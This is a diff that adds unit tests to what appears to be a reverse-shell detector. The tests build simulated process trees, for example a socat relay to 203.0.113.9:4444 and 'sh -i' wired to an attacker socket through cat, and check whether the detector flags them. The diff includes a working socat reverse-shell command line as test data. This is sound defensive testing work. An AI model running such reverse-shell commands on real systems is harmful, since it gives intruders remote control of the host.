@@ -428,6 +428,49 @@ describe('what is no reverse shell is not wired', () => {
   })
 })
 
+describe('who holds the other end', () => {
+  test('is found behind programs that have the same ends: sh -c, timeout', () => {
+    const host = machine()
+    const ends = [unixSocket(), unixSocket(), unixSocket()]
+    host.exec(10, 'socat TCP:203.0.113.9:4444 SYSTEM:sh')
+    host.connect(10, attacker)
+    host.fork(10, 11)
+    host.exec(11, 'sh -c sh;true', { stdio: ends })
+    host.fork(11, 12)
+    host.exec(12, 'timeout 5 sh', { stdio: ends })
+    host.fork(12, 13)
+    host.exec(13, 'sh', { stdio: ends })
+    expectWired(host, 13, 10, 'socat')
+  })
+
+  test('is not the program whose user escapes to a shell on his own terminal', () => {
+    const host = machine()
+    const own = [terminal()].flatMap((tty) => [tty, tty, tty])
+    host.exec(10, 'bash', { stdio: own })
+    host.fork(10, 11)
+    host.exec(11, 'psql', { stdio: own })
+    host.connect(11, elsewhere)
+    host.fork(11, 12)
+    host.exec(12, 'bash', { stdio: own })
+    expectNotWired(host, 12)
+  })
+})
+
+describe('half a socket, half a pipe', () => {
+  test.each(['the shell first', 'the relay first'])('sh <&3 | cat >&3, %s: wired', (order) => {
+    const host = machine()
+    host.exec(10, 'bash')
+    const socket = networkSocket(host.connect(10, attacker))
+    const between = pipe()
+    for (const pid of [11, 12]) host.fork(10, pid)
+    const shell = () => host.exec(11, 'sh -i', { stdio: [socket, between, between] })
+    const relay = () => host.exec(12, 'cat', { stdio: [between, socket, terminal()] })
+    for (const start of order === 'the shell first' ? [shell, relay] : [relay, shell]) start()
+    expect(host.last(11).process?.stdout?.relay).toMatchObject({ pid: 12, name: 'cat' })
+    expect(host.last(11).process?.stdin?.peer).toEqual(attacker)
+  })
+})
+
 describe('what the wiring remembers', () => {
   test('goes with the process: a pipe’s number may be used again', () => {
     const host = machine()
